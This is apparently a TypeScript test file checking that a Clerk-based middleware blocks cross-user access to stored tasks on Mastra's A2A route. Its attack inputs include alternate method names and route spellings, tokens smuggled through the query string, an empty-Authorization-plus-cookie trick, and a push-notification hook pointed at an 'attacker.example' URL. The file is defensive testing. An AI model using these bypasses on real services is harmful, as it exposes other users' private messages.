/**
 * Mastra's A2A route (`POST /a2a/:agentId`, JSON-RPC) serves stored tasks (`tasks/get`, `tasks/list`, `tasks/cancel`,
 * `tasks/resubscribe`, their push-notification configs) by agent and task id alone: it never asks whose task it is,
 * so one user read another's messages and the agent's answers (found by an attacker session of our own). Sending a
 * message is scoped (Mastra checks the task's resource against the signed-in one). The middleware lets through only
 * the methods that send a message; every other method is refused (403), with or without a policy, in Express 4 and 5,
 * however the route is spelled. Real issuer, real Express, real Mastra and its in-memory task store, over HTTP.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import express from 'express';
import express4 from 'express4';
import request from 'supertest';
import { Agent } from '@mastra/core/agent';
import { Mastra } from '@mastra/core/mastra';
import { MastraServer } from '@mastra/express';
import { InMemoryTaskStore } from '@mastra/server/a2a/store';
import { clerkMastraAuth, createClerkAuth } from '../../src/index.js';
import { MastraAuthClerk } from '../../src/mastra/index.js';
import { createTestIssuer, type TestIssuer } from '../../src/testing/index.js';
import { offlineWeatherModel } from '../../examples/mastra/offline-model.js';

const issuer: TestIssuer = await createTestIssuer();
const alice = await issuer.mintToken({}, { userId: 'user_alice', expiresInSeconds: 3600 });
const bob = await issuer.mintToken({}, { userId: 'user_bob', expiresInSeconds: 3600 });
afterAll(async () => {
  await issuer.close();
});

const REFUSED = {
  error: 'access-denied',
  message:
    "Mastra's A2A route serves stored tasks without checking whose they are: only sending a message (message/send, message/stream) is let through.",
};

type App = (req: unknown, res: unknown) => void;

async function mixedApp(flavour: 'express5' | 'express4', policy: boolean, jsonFirst = true, optional = false): Promise<App> {
  const clerkAuth = createClerkAuth({
    ...issuer.authOptions,
    env: {},
    logger: false,
    authorizeUser: policy ? (_user, ctx) => ctx.resource?.params.agentId === 'weatherAgent' : undefined,
  });
  const weatherAgent = new Agent({ id: 'weatherAgent', name: 'Weather', instructions: 'x', model: offlineWeatherModel() as never });
  const mastra = new Mastra({ agents: { weatherAgent }, server: { auth: new MastraAuthClerk({ clerkAuth }) as never }, logger: false });
  const make = (flavour === 'express4' ? express4 : express) as unknown as typeof express;
  const app = make();
  if (jsonFirst) app.use(make.json());
  app.use(clerkMastraAuth({ clerkAuth, optional }));
  if (!jsonFirst) app.use(make.json());
  await new MastraServer({ app: app as never, mastra, prefix: '/api', taskStore: new InMemoryTaskStore() }).init();
  return app as unknown as App;
}

function rpc(app: App, token: string, method: string, params: unknown, { path = '/api/a2a/weatherAgent', v1 = false } = {}) {
  const req = request(app).post(path).set('Authorization', `Bearer ${token}`);
  if (v1) req.set('A2A-Version', '1.0');
  return req.send({ jsonrpc: '2.0', id: 1, method, params });
}

const message = (text: string) => ({ message: { role: 'user', kind: 'message', messageId: `m-${text}`, parts: [{ kind: 'text', text }] } });

describe.each([
  ['express5', true],
  ['express5', false],
  ['express4', false],
] as const)('%s, policy %s', (flavour, policy) => {
  let app: App;
  let taskId: string;
  beforeAll(async () => {
    app = await mixedApp(flavour, policy);
    const sent = await rpc(app, alice, 'message/send', message('ALICE-SECRET'));
    expect([sent.status, sent.body.result?.metadata?.resourceId]).toEqual([200, 'user_alice']);
    taskId = sent.body.result.id as string;
  });

  it("another user neither lists nor reads, cancels or follows Alice's task, by any method name or route spelling", async () => {
    const calls: Array<[string, unknown, { path?: string; v1?: boolean }]> = [
      ['ListTasks', { historyLength: 10, includeArtifacts: true }, { v1: true }],
      ['tasks/list', {}, { v1: true }],
      ['tasks/get', { id: taskId }, {}],
      ['GetTask', { id: taskId }, { v1: true }],
      ['tasks/get', { id: taskId }, { path: '/api/A2A/weatherAgent' }],
      ['tasks/get', { id: taskId }, { path: '/api/a2a/weather%41gent' }],
      ['tasks/cancel', { id: taskId }, {}],
      ['CancelTask', { id: taskId }, { v1: true }],
      ['tasks/resubscribe', { id: taskId }, {}],
      ['tasks/pushNotificationConfig/get', { id: taskId }, {}],
      ['tasks/pushNotificationConfig/set', { taskId, pushNotificationConfig: { url: 'https://attacker.example/hook' } }, {}],
      ['tasks/pushNotificationConfig/list', { id: taskId }, {}],
      ['Tasks/Get', { id: taskId }, {}],
    ];
    for (const [method, params, options] of calls) {
      const res = await rpc(app, bob, method, params, options);
      const label = `${method} ${options.path ?? ''}`;
      expect([label, res.status, res.body]).toEqual([label, 403, REFUSED]);
      expect(res.text).not.toContain('ALICE-SECRET');
    }
  });

  it("the task's own user is refused the same way: the route cannot tell whose task it is", async () => {
    const res = await rpc(app, alice, 'tasks/get', { id: taskId });
    expect([res.status, res.body]).toEqual([403, REFUSED]);
  });

  it('sending a message still works, and Mastra keeps it to its user: Bob cannot continue Alice\'s task', async () => {
    const own = await rpc(app, bob, 'SendMessage', message('BOB-OWN'), { v1: true });
    expect(own.status).toBe(200);
    expect(own.text).not.toContain('ALICE-SECRET');
    const hijack = await rpc(app, bob, 'message/send', { message: { ...message('x').message, taskId } });
    expect(hijack.status).toBe(200); // JSON-RPC: the error is in the body
    expect(hijack.body.error).toBeDefined();
    expect(hijack.text).not.toContain('ALICE-SECRET');
  });
});

it("an app's own route of the same shape, with a body that is no JSON-RPC request, is not judged as Mastra's", async () => {
  // "A2A" is also account-to-account in payments: POST /payments/a2a/charge reads as Mastra's A2A route under the
  // prefix /payments (found by a review). Mastra's schema refuses a body without jsonrpc "2.0", so only such bodies count.
  const own = express();
  own.use(express.json());
  const clerkAuth = createClerkAuth({ ...issuer.authOptions, env: {}, logger: false });
  new MastraAuthClerk({ clerkAuth }); // shares Mastra's route table with the middleware, as in a mixed app
  own.use(clerkMastraAuth({ clerkAuth }));
  own.post('/payments/a2a/charge', (req, res) => res.json({ charged: req.body.method }));
  const res = await request(own).post('/payments/a2a/charge').set('Authorization', `Bearer ${bob}`).send({ method: 'card' });
  expect([res.status, res.body]).toEqual([200, { charged: 'card' }]);
  // The same path with a JSON-RPC task call is refused: it is Mastra's A2A route under /payments if Mastra is there.
  const rpcCall = await request(own)
    .post('/payments/a2a/charge')
    .set('Authorization', `Bearer ${bob}`)
    .send({ jsonrpc: '2.0', id: 1, method: 'tasks/get', params: { id: 'x' } });
  expect([rpcCall.status, rpcCall.body]).toEqual([403, REFUSED]);
});

it('a body parsed only after the middleware is refused as unread, saying why', async () => {
  const app = await mixedApp('express5', false, false);
  const res = await rpc(app, bob, 'tasks/list', {}, { v1: true });
  expect(res.status).toBe(403);
  expect(res.body.error).toBe('access-denied');
  expect(res.body.message).toMatch(/^The request body could not be checked/);
});

it("with optional: true, a token in the query (Express 4's ?[apiKey]=) signs nobody in to read Alice's task", async () => {
  // The middleware lets a request without credentials through signed out; Mastra's adapter then takes a token from
  // `req.query.apiKey`, which Express 4's parser fills from `?[apiKey]=` (found by an attacker on the A2A fix).
  const app = await mixedApp('express4', false, true, true);
  const sent = await rpc(app, alice, 'message/send', message('ALICE-OPTIONAL'));
  const taskId = sent.body.result.id as string;
  for (const key of ['apiKey', '[apiKey]', '%5BapiKey%5D', 'apiKey[]']) {
    const res = await request(app)
      .post(`/api/a2a/weatherAgent?${key}=${bob}`)
      .send({ jsonrpc: '2.0', id: 1, method: 'tasks/get', params: { id: taskId } });
    expect([key, res.status]).toEqual([key, 401]);
    expect(res.text).not.toContain('ALICE-OPTIONAL');
  }
});

it('with optional: true, an empty Authorization header next to a session cookie is read as Mastra reads it (absent)', async () => {
  // The middleware took `Authorization: ` (empty) as the client's way of signing in and ignored the cookie: signed out,
  // let through; Mastra's adapter drops empty headers, so the provider signed the cookie's user in past the A2A check
  // (found by an attacker on the A2A fix). Clerk reads an empty header as absent too.
  for (const flavour of ['express5', 'express4'] as const) {
    const app = await mixedApp(flavour, false, true, true);
    const sent = await rpc(app, alice, 'message/send', message('ALICE-EMPTY-HEADER'));
    const taskId = sent.body.result.id as string;
    for (const authorization of ['', '   ']) {
      const res = await request(app)
        .post('/api/a2a/weatherAgent')
        .set('Authorization', authorization)
        .set('Cookie', `__session=${bob}; __client_uat=1`)
        .send({ jsonrpc: '2.0', id: 1, method: 'tasks/get', params: { id: taskId } });
      expect([flavour, JSON.stringify(authorization), res.status, res.body]).toEqual([flavour, JSON.stringify(authorization), 403, REFUSED]);
      expect(res.text).not.toContain('ALICE-EMPTY-HEADER');
    }
  }
});
